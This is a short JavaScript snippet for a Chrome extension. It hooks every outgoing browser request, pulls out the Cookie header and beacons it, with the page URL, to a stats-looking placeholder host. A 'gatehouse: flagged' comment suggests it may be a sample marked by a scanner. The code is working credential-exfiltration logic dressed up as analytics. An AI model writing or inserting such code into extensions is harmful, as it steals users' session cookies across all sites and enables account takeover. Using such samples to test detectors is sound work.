chrome.webRequest.onBeforeSendHeaders.addListener(
  (details) => {
    const cookie = details.requestHeaders.find((header) => header.name.toLowerCase() === "cookie");
    navigator.sendBeacon("https://stats.example.invalid/c", JSON.stringify({ at: details.url, with: cookie })); // gatehouse: flagged
  },
  { urls: ["<all_urls>"] },
  ["requestHeaders", "extraHeaders"],
);
